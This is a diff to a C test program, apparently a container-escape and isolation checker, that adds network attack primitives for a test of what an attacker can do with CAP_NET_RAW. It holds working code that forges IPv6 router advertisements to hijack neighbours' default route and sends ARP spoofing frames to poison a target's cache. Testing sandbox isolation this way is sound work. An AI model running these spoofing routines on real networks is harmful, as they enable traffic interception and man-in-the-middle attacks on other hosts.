@@ -8,13 +8,19 @@
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
+#include <arpa/inet.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
 #include <linux/reboot.h>
+#include <net/if.h>
+#include <netinet/ip6.h>
 #include <netinet/in.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
@@ -22,6 +28,7 @@
 #include <sys/swap.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
+#include <sys/time.h>
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
@@ -120,8 +127,184 @@ static long cgroup_escape(const char *root)
 	return 0;
 }
 
+/*
+ * Network attacks on the neighbours (issue 9, attack 5), through a packet
+ * socket on eth0 (CAP_NET_RAW): the frames are built by hand, so the
+ * sender's own IPv6 or ARP settings cannot stop them; only the receivers'
+ * configuration and the capability can.
+ */
+static int packet_socket(unsigned short protocol, int *index, unsigned char mac[6])
+{
+	struct ifreq request = {0};
+	int fd = socket(AF_PACKET, SOCK_DGRAM, htons(protocol));
+
+	if (fd < 0)
+		return -1;
+	snprintf(request.ifr_name, sizeof request.ifr_name, "eth0");
+	if (ioctl(fd, SIOCGIFHWADDR, &request) < 0 || ioctl(fd, SIOCGIFINDEX, &request) < 0)
+		return -1;
+	*index = request.ifr_ifindex;
+	/* SIOCGIFINDEX overwrote the union: read the address again. */
+	if (ioctl(fd, SIOCGIFHWADDR, &request) < 0)
+		return -1;
+	memcpy(mac, request.ifr_hwaddr.sa_data, 6);
+	return fd;
+}
+
+static long send_frame(int fd, int index, unsigned short protocol, const unsigned char destination[6],
+                       const void *frame, size_t length)
+{
+	struct sockaddr_ll to = {
+	        .sll_family = AF_PACKET, .sll_protocol = htons(protocol), .sll_ifindex = index, .sll_halen = 6};
+
+	memcpy(to.sll_addr, destination, 6);
+	return sendto(fd, frame, length, 0, (struct sockaddr *)&to, sizeof to);
+}
+
+static unsigned short icmp6_checksum(const struct ip6_hdr *ip, const unsigned char *message, size_t length)
+{
+	unsigned long sum = 0;
+	unsigned char pseudo[40] = {0};
+
+	memcpy(pseudo, &ip->ip6_src, 16);
+	memcpy(pseudo + 16, &ip->ip6_dst, 16);
+	pseudo[34] = (unsigned char)(length >> 8);
+	pseudo[35] = (unsigned char)length;
+	pseudo[39] = IPPROTO_ICMPV6;
+	for (size_t i = 0; i < sizeof pseudo; i += 2)
+		sum += (unsigned long)(pseudo[i] << 8 | pseudo[i + 1]);
+	for (size_t i = 0; i < length; i += 2)
+		sum += (unsigned long)(message[i] << 8 | (i + 1 < length ? message[i + 1] : 0));
+	while (sum >> 16)
+		sum = (sum & 0xffff) + (sum >> 16);
+	return htons((unsigned short)~sum);
+}
+
+/*
+ * ra PREFIX: a router advertisement to all nodes (ff02::1, hop limit 255,
+ * from our link-local address): default router, high preference, lifetime
+ * 60 s, and PREFIX/64 on-link and autonomous (SLAAC). A receiver with
+ * accept_ra takes us as its default router (CVE-2020-13401 class).
+ */
+static long send_router_advertisement(const char *prefix_text)
+{
+	static const unsigned char all_nodes_mac[6] = {0x33, 0x33, 0, 0, 0, 1};
+	unsigned char frame[sizeof(struct ip6_hdr) + 16 + 8 + 32] = {0}, mac[6], *ra;
+	struct ip6_hdr *ip = (struct ip6_hdr *)frame;
+	struct in6_addr prefix;
+	size_t length = sizeof frame - sizeof *ip;
+	int index, fd;
+
+	if (inet_pton(AF_INET6, prefix_text, &prefix) != 1) {
+		errno = EINVAL;
+		return -1;
+	}
+	fd = packet_socket(ETH_P_IPV6, &index, mac);
+	if (fd < 0)
+		return -1;
+	ip->ip6_flow = htonl(6u << 28);
+	ip->ip6_plen = htons((unsigned short)length);
+	ip->ip6_nxt = IPPROTO_ICMPV6;
+	ip->ip6_hlim = 255;
+	/* fe80::EUI-64 of our MAC: a receiver drops an RA whose source is not link-local. */
+	unsigned char *source = (unsigned char *)&ip->ip6_src;
+	source[0] = 0xfe, source[1] = 0x80;
+	source[8] = mac[0] ^ 2, source[9] = mac[1], source[10] = mac[2], source[11] = 0xff, source[12] = 0xfe;
+	source[13] = mac[3], source[14] = mac[4], source[15] = mac[5];
+	inet_pton(AF_INET6, "ff02::1", &ip->ip6_dst);
+	ra = frame + sizeof *ip;
+	ra[0] = 134;            /* router advertisement */
+	ra[4] = 64;             /* current hop limit */
+	ra[5] = 0x08;           /* router preference: high */
+	ra[6] = 0, ra[7] = 60;  /* router lifetime: 60 s */
+	ra[16] = 1, ra[17] = 1; /* source link-layer address option */
+	memcpy(ra + 18, mac, 6);
+	ra[24] = 3, ra[25] = 4, ra[26] = 64; /* prefix information: /64 */
+	ra[27] = 0xc0;                       /* on-link, autonomous */
+	ra[31] = 120, ra[35] = 60;           /* valid 120 s, preferred 60 s */
+	memcpy(ra + 40, &prefix, 16);
+	unsigned short checksum = icmp6_checksum(ip, ra, length);
+	memcpy(ra + 2, &checksum, 2);
+	return send_frame(fd, index, ETH_P_IPV6, all_nodes_mac, frame, sizeof frame);
+}
+
+/* arp_spoof SPOOFED,TARGET: an ARP request to TARGET claiming SPOOFED is at our MAC (it caches that). */
+static long send_arp_spoof(const char *addresses)
+{
+	static const unsigned char broadcast[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
+	unsigned char frame[28] = {0}, mac[6];
+	char spoofed[32];
+	const char *comma = strchr(addresses, ',');
+	struct in_addr sender, target;
+	int index, fd;
+
+	snprintf(spoofed, sizeof spoofed, "%.*s", comma ? (int)(comma - addresses) : 0, addresses);
+	if (comma == NULL || inet_pton(AF_INET, spoofed, &sender) != 1 || inet_pton(AF_INET, comma + 1, &target) != 1) {
+		errno = EINVAL;
+		return -1;
+	}
+	fd = packet_socket(ETH_P_ARP, &index, mac);
+	if (fd < 0)
+		return -1;
+	frame[1] = 1;                  /* hardware: Ethernet */
+	frame[2] = 0x08, frame[3] = 0; /* protocol: IPv4 */
+	frame[4] = 6, frame[5] = 4;
+	frame[7] = 1; /* request */
+	memcpy(frame + 8, mac, 6);
+	memcpy(frame + 14, &sender, 4);
+	memcpy(frame + 24, &target, 4);
+	return send_frame(fd, index, ETH_P_ARP, broadcast, frame, sizeof frame);
+}
+
+/*
+ * ping ADDRESS: one echo through an ICMP echo socket (net.ipv4.ping_group_range), as iputils'
+ * ping does without NET_RAW (Debian's busybox ping knows only raw sockets). ok on a reply.
+ */
+static long ping_without_raw(const char *address)
+{
+	struct sockaddr_in to = {.sin_family = AF_INET};
+	unsigned char echo[16] = {8 /* echo request; the kernel sets the id and the checksum */}, reply[64];
+	struct timeval timeout = {2, 0};
+	int fd;
+
+	if (inet_pton(AF_INET, address, &to.sin_addr) != 1) {
+		errno = EINVAL;
+		return -1;
+	}
+	fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
+	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout) < 0 ||
+	    sendto(fd, echo, sizeof echo, 0, (struct sockaddr *)&to, sizeof to) < 0)
+		return -1;
+	for (;;) {
+		ssize_t n = recv(fd, reply, sizeof reply, 0);
+		if (n < 0)
+			return -1; /* EAGAIN: no reply in time */
+		if (n >= 8 && reply[0] == 0 /* echo reply */)
+			return 0;
+	}
+}
+
+static long attempt_network(const char *what, const char *arg)
+{
+	if (strcmp(what, "ra") == 0)
+		return send_router_advertisement(arg);
+	if (strcmp(what, "arp_spoof") == 0)
+		return send_arp_spoof(arg);
+	if (strcmp(what, "packet_socket") == 0)
+		return socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
+	if (strcmp(what, "ping_socket") == 0)
+		return socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
+	if (strcmp(what, "ping") == 0)
+		return ping_without_raw(arg);
+	errno = ENOENT;
+	return -2;
+}
+
 static long attempt(const char *what, const char *arg)
 {
+	long network = attempt_network(what, arg);
+	if (network != -2)
+		return network;
 	if (strcmp(what, "mount") == 0)
 		return mount("none", "/mnt", "tmpfs", 0, NULL);
 	if (strcmp(what, "umount") == 0)
